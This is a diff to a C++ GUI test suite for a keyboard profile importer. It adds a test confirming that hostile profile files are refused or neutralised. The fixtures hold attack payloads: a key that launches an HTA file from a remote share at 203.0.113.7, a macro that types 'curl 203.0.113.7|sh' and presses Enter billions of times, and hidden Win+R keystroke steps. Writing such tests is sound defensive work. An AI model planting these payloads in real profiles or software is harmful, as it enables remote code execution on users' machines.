@@ -88,6 +88,19 @@ class OptionShare : public OptionHarness {
     if (GetFileAttributesA(path.c_str()) != INVALID_FILE_ATTRIBUTES) loadProfile(*record, path);
     return record;
   }
+  // The skinned warning of a refused file, in the skin's look (no system
+  // message box), looked at and closed with its OK.
+  void closeRefusal(const std::string& picture) {
+    HWND box = waitForWindow("Profile not imported");
+    ASSERT_NE(box, nullptr) << "no word about the refusal";
+    char className[64] = {};
+    GetClassNameA(box, className, sizeof className);
+    EXPECT_STRNE(className, "#32770") << "a system message box";
+    waitFor([] { return false; }, 150);
+    capture(box, folder_ + picture + ".bmp");
+    clickOn(box, "skin_profile_refused_warn.ini", 1);
+    ASSERT_TRUE(closed(box));
+  }
   std::string fileBytes(const std::string& path) {
     std::string bytes;
     readWholeFile(path, bytes);
@@ -97,14 +110,14 @@ class OptionShare : public OptionHarness {
     PostMessageA(monitorWindow(), WM_COMMAND, ID_TRAY_EXIT, 0);
     ASSERT_TRUE(waitFor([&] { return WaitForSingleObject(monitor_.hProcess, 0) == WAIT_OBJECT_0; }, 15000));
   }
-  // A sound file of `change`, cut inside its last key block.
+  // A sound file of `change`, cut inside its keys.
   std::string brokenFile(void (*change)(ProfileRecord&)) {
     auto profile = std::make_unique<ProfileRecord>();
     buildDefaultProfile(*profile, 0);
     change(*profile);
     const std::string text = writeProfileFile(*profile, {}, "1.02", systemTextCodec());
     const std::string path = folder_ + "broken.vqprofile";
-    EXPECT_TRUE(replaceFileAtomically(path, text.substr(0, text.size() - 500)));
+    EXPECT_TRUE(replaceFileAtomically(path, text.substr(0, text.size() - 40)));
     return path;
   }
 };
@@ -185,7 +198,7 @@ TEST_F(OptionShare, TheCommandLineBesideAnOpenWindowSendsTheImportAloneAndTheWin
   r = run("Option.exe", "--import-profile 1 \"" + file + "\"");
   ASSERT_TRUE(r.ended);
   EXPECT_EQ(r.exitCode, 0u) << r.output;
-  EXPECT_EQ(r.output, "");
+  EXPECT_EQ(r.output.rfind("Imported \"Drift\"", 0), 0u) << r.output;
   const std::vector<Download> downloads = waitForDownloads(mark, 1);
   ASSERT_EQ(downloads.size(), 1u) << "the import did not reach the keyboard";
   expectDownloadOfBlock(downloads[0]);
@@ -270,17 +283,8 @@ TEST_F(OptionShare, ADamagedFileIsRefusedOnThePageWithNothingChanged) {
   clickOn(page, profilePageIni(1), kImport);
   chooseFile("Import profile", broken);
   if (HasFatalFailure()) return;
-  HWND box = waitForWindow("Profile not imported");
-  ASSERT_NE(box, nullptr) << "no word about the refusal";
-  wchar_t text[1024] = {};
-  GetDlgItemTextW(box, 0xFFFF, text, 1024);
-  const std::string message = utf8FromWide(text);
-  EXPECT_NE(message.find("Nothing was changed"), std::string::npos) << message;
-  EXPECT_NE(message.find("damaged or cut short"), std::string::npos) << message;
-  RECT ok;
-  GetWindowRect(GetDlgItem(box, IDOK), &ok);
-  click({(ok.left + ok.right) / 2, (ok.top + ok.bottom) / 2});
-  ASSERT_TRUE(closed(box));
+  closeRefusal("damaged-refused");
+  if (HasFatalFailure()) return;
   clickOn(page, profilePageIni(1), kOk);
   ASSERT_TRUE(closed(page));
   std::vector<Download> downloads;
@@ -290,4 +294,114 @@ TEST_F(OptionShare, ADamagedFileIsRefusedOnThePageWithNothingChanged) {
   EXPECT_EQ(std::memcmp(&after->profiles[0], &before->profiles[0], sizeof(ProfileRecord)), 0);
   EXPECT_STREQ(savedProfile(0)->profileName, "Keep me");
   EXPECT_EQ(fileBytes(folder_ + kMacroLibraryFile.file), macrosBefore);
+}
+
+namespace {
+
+// Files as an attacker makes them: exported by the program, their key
+// blocks patched (format 1.0, checksums recomputed by the writer).
+void stranger(ProfileRecord& p) {
+  std::strcpy(p.profileName, "Stranger");
+  p.keys[12].category = kCategoryDisabled;
+  p.keys[12].functionCode = kFunctionDisabled;
+  KeyAssignment& launch = p.keys[16];  // Q: opens a program on someone's share
+  launch.category = kCategoryLaunch;
+  launch.functionCode = kFunctionLaunch;
+  std::strcpy(launch.appPath, "\\\\203.0.113.7\\s\\x.hta");
+}
+
+void textBomb(ProfileRecord& p) {
+  stranger(p);
+  KeyAssignment& a = p.keys[45];  // A: pastes a text and Enter, 2^31 times
+  a.category = kCategoryMacro;
+  a.functionCode = kFunctionTextMacro;
+  std::strcpy(a.textMacroText, "curl 203.0.113.7|sh");
+  a.keyAfter = 40;
+  a.playMode = kPlayNTimes;
+  a.playCount = INT32_MAX;
+}
+
+void hiddenSteps(ProfileRecord& p) {
+  stranger(p);
+  KeyAssignment& q = p.keys[31];  // Win+R, then Enter: steps no section shows
+  q.category = kCategoryMacro;
+  q.functionCode = kFunctionRecordedMacro;
+  q.stepCount = 4;
+  q.steps[0] = MacroStep::make(227, kActionPress, 0);
+  q.steps[1] = MacroStep::make(21, kActionPress, 0);
+  q.steps[2] = MacroStep::make(21, kActionRelease, 0);
+  q.steps[3] = MacroStep::make(40, kActionPress, 0);
+}
+
+}  // namespace
+
+TEST_F(OptionShare, AHostileFileChangesNothingAUserCannotSeeThroughTheCommandLineAndThePage) {
+  writeProfile(0, [](ProfileRecord& p) { std::strcpy(p.profileName, "Keep me"); });
+  startWithEmulatedKeyboard();
+  auto hostile = [&](const char* name, void (*change)(ProfileRecord&)) {
+    auto profile = std::make_unique<ProfileRecord>();
+    buildDefaultProfile(*profile, 0);
+    change(*profile);
+    const std::string path = folder_ + name + ".vqprofile";
+    EXPECT_TRUE(replaceFileAtomically(path, writeProfileFileFormat10(*profile, {}, "1.02", systemTextCodec())));
+    return path;
+  };
+  const std::string launch = hostile("stranger", stranger);
+  const std::string bomb = hostile("bomb", textBomb);
+  const std::string steps = hostile("steps", hiddenSteps);
+
+  // The command line without a window: the nameless macros refuse the file.
+  const std::string before = fileBytes(profilePath(folder_, 0));
+  const std::unique_ptr<SettingsImage> blockBefore = readBlock();
+  for (const std::string& file : {bomb, steps}) {
+    const ProgramRun r = run("Option.exe", "--import-profile 1 \"" + file + "\"");
+    EXPECT_EQ(r.exitCode, 1u) << r.output;
+    EXPECT_NE(r.output.find("Import refused, nothing changed"), std::string::npos) << r.output;
+    EXPECT_NE(r.output.find("without a name"), std::string::npos) << r.output;
+  }
+  EXPECT_EQ(fileBytes(profilePath(folder_, 0)), before);
+  EXPECT_EQ(std::memcmp(readBlock().get(), blockBefore.get(), sizeof(SettingsImage)), 0);
+  // The launch key comes in as a default key, and the console says so.
+  size_t mark = traceSize();
+  ProgramRun r = run("Option.exe", "--import-profile 2 \"" + launch + "\"");
+  EXPECT_EQ(r.exitCode, 0u) << r.output;
+  EXPECT_NE(r.output.find("1 program key left out (default keys now)"), std::string::npos) << r.output;
+  ASSERT_EQ(waitForDownloads(mark, 1).size(), 1u);
+  std::unique_ptr<SettingsImage> block = readBlock();
+  auto plain = std::make_unique<ProfileRecord>();
+  buildDefaultProfile(*plain, 1);
+  EXPECT_STREQ(block->profiles[1].profileName, "Stranger");
+  EXPECT_EQ(block->profiles[1].keys[12].category, kCategoryDisabled);
+  EXPECT_EQ(std::memcmp(&block->profiles[1].keys[16], &plain->keys[16], sizeof(KeyAssignment)), 0);
+  EXPECT_EQ(fileBytes(profilePath(folder_, 1)).find("203.0.113.7"), std::string::npos);
+
+  // The same through the profile page.
+  startOption();
+  HWND page = openProfilePage(1);
+  ASSERT_NE(page, nullptr);
+  for (const std::string& file : {bomb, steps}) {
+    clickOn(page, profilePageIni(1), kImport);
+    chooseFile("Import profile", file);
+    if (HasFatalFailure()) return;
+    closeRefusal(file == bomb ? "refused-bomb" : "refused-steps");
+    if (HasFatalFailure()) return;
+  }
+  clickOn(page, profilePageIni(1), kImport);
+  chooseFile("Import profile", launch);
+  if (HasFatalFailure()) return;
+  waitFor([] { return false; }, 150);
+  capture(page, folder_ + "import-preview.bmp");  // what comes in, shown before OK
+  clickOn(page, profilePageIni(1), kOk);
+  ASSERT_TRUE(closed(page));
+  std::vector<Download> downloads;
+  applyAndWaitFor(downloads);
+  if (HasFatalFailure()) return;
+  block = readBlock();
+  EXPECT_STREQ(block->profiles[0].profileName, "Stranger");
+  EXPECT_EQ(std::memcmp(&block->profiles[0].keys[16], &plain->keys[16], sizeof(KeyAssignment)), 0);
+  for (int k : {31, 45}) EXPECT_EQ(block->profiles[0].keys[k].category, kCategoryDefault) << k;
+  TextMacroLibrary texts;
+  loadList(texts, folder_, kTextMacroLibraryFile);
+  EXPECT_TRUE(texts.empty());
+  EXPECT_EQ(fileBytes(profilePath(folder_, 0)).find("203.0.113.7"), std::string::npos);
 }
